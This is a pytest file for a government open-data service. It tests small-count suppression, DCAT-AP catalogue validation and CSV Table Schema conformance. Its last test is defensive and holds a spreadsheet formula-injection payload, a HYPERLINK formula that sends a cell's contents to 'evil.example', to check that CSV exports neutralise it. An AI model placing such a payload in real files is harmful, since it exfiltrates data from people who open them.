"""Open data: suppression never shows a small count nor lets one be worked out; the DCAT
catalogue passes the DCAT-AP 3.0.1 SHACL shapes; every dataset's CSV passes its Table Schema."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyshacl
import pytest
import rdflib
from django.conf import settings as django_settings
from django.test import Client
from django.utils import timezone
from frictionless import Resource, Schema, validate
from hypothesis import given, settings
from hypothesis import strategies as st

from gov3.accounts.models import Agency, OfficerRole
from gov3.accounts.services import do_create_officer_account
from gov3.opendata.core.suppression import suppress_counts, suppress_sums
from gov3.opendata.datasets import DATASETS
from tests.conftest import ACTOR, PASSWORD
from tests.participation.test_consultations import open_draft

SHAPES = Path(__file__).resolve().parents[2] / "src" / "gov3" / "opendata" / "shapes"
THRESHOLD = 5


def _feasible_values(published: dict[int, int | None], total: int | None) -> dict[int, set[int]]:
    """Every value each suppressed cell can take, given what is published and that zeros are
    published (so suppressed cells are ≥ 1): brute force over all completions."""
    hidden = [k for k, v in published.items() if v is None]
    if total is None:
        return {}  # no total published: nothing ties the suppressed cells to a value
    rest = total - sum(v for v in published.values() if v is not None)
    values: dict[int, set[int]] = {k: set() for k in hidden}

    def fill(index: int, left: int, chosen: list[int]) -> None:
        if index == len(hidden):
            if left == 0:
                for k, v in zip(hidden, chosen, strict=True):
                    values[k].add(v)
            return
        for v in range(1, left + 1):
            fill(index + 1, left - v, [*chosen, v])

    fill(0, rest, [])
    return values


@settings(max_examples=300, deadline=None)
@given(st.lists(st.integers(min_value=0, max_value=12), min_size=1, max_size=6))
def test_no_small_count_is_shown_or_recoverable(counts: list[int]) -> None:
    cells = dict(enumerate(counts))
    result = suppress_counts(cells, THRESHOLD)
    for key, value in result.cells.items():
        assert value is None or value == cells[key]
        assert value is None or value == 0 or value >= THRESHOLD
    if result.total is not None:
        assert result.total == sum(counts)
        assert result.total == 0 or result.total >= THRESHOLD
    else:
        assert sum(counts) > 0
    for key, possible in _feasible_values(result.cells, result.total).items():
        assert len(possible) >= 2, f"cell {key} ({cells[key]}) can be worked out from {result}"
        assert cells[key] in possible


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.integers(-1000, 1000), st.integers(0, 9)), min_size=1, max_size=6))
def test_sums_of_few_people_are_hidden_and_never_alone(cells: list[tuple[int, int]]) -> None:
    sums = {i: (s if n else 0) for i, (s, n) in enumerate(cells)}
    people = {i: n for i, (_, n) in enumerate(cells)}
    result = suppress_sums(sums, people, THRESHOLD)
    hidden = [k for k, v in result.cells.items() if v is None]
    for key in sums:
        if 0 < people[key] < THRESHOLD:
            assert result.cells[key] is None
    if result.total is not None:
        assert len(hidden) != 1  # a lone hidden sum = total minus the others


def test_a_cell_of_three_under_a_total_is_protected_by_a_second_cell() -> None:
    result = suppress_counts({"a": 3, "b": 40, "c": 0, "d": 12}, THRESHOLD)
    assert result.cells == {"a": None, "b": 40, "c": 0, "d": None}
    assert result.total == 55


@pytest.mark.django_db
def test_the_catalogue_passes_the_dcat_ap_shapes(client: Client) -> None:
    turtle = client.get("/open-data/catalog.ttl")
    assert turtle.status_code == 200
    assert turtle["Content-Type"].startswith("text/turtle")
    graph = rdflib.Graph().parse(data=turtle.content.decode(), format="turtle")
    shapes = rdflib.Graph().parse(SHAPES / "dcat-ap-3.0.1-SHACL.ttl")
    conforms, _, report = pyshacl.validate(graph, shacl_graph=shapes)
    assert conforms, report
    datasets = set(
        graph.subjects(rdflib.RDF.type, rdflib.URIRef("http://www.w3.org/ns/dcat#Dataset"))
    )
    assert len(datasets) == len(DATASETS)
    jsonld = client.get("/open-data/catalog.jsonld")
    same = rdflib.Graph().parse(data=jsonld.content.decode(), format="json-ld")
    assert len(same) == len(graph)


@pytest.mark.django_db
@pytest.mark.parametrize("slug", sorted(DATASETS))
def test_every_dataset_csv_passes_its_table_schema(
    client: Client, slug: str, tmp_path: Path
) -> None:
    schema = client.get(f"/open-data/datasets/{slug}.schema.json").json()
    csv_path = tmp_path / f"{slug}.csv"
    csv_path.write_bytes(client.get(f"/open-data/datasets/{slug}.csv").content)
    resource = Resource(
        path=csv_path.name, basepath=str(tmp_path), schema=Schema.from_descriptor(schema)
    )
    report = validate(resource)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert client.get(f"/open-data/datasets/{slug}.parquet").content[:4] == b"PAR1"
    assert json.loads(client.get(f"/open-data/datasets/{slug}.json").content)["dataset"] == slug


@pytest.mark.django_db
def test_an_unknown_dataset_is_not_found(client: Client) -> None:
    assert client.get("/open-data/datasets/nothing.csv").status_code == 404
    assert client.get("/api/v1/open-data/datasets/nothing").status_code == 404


@pytest.mark.django_db
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_downloaded_as_text(
    client: Client, welfare_agency: Agency
) -> None:
    """An officer's consultation title is published as open data: in the CSV it cannot run as
    a formula (a leading `'`), in the JSON it stays as written."""
    officer = do_create_officer_account(
        ACTOR,
        username="welfare",
        password=PASSWORD,
        agency=welfare_agency,
        role=OfficerRole.WELFARE_OFFICER,
    )[0]
    title = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    open_draft(
        officer,
        Path(django_settings.GOV3_COUNTRIES_DIR) / "kr",
        day=timezone.localdate(),
        title=title,
    )
    slug = "consultation-participation"
    text = client.get(f"/open-data/datasets/{slug}.csv").content.decode()
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["title"] == "'" + title
    assert row["support"] == "0"  # numbers are written as they are
    [published] = json.loads(client.get(f"/open-data/datasets/{slug}.json").content)["rows"]
    assert published["title"] == title
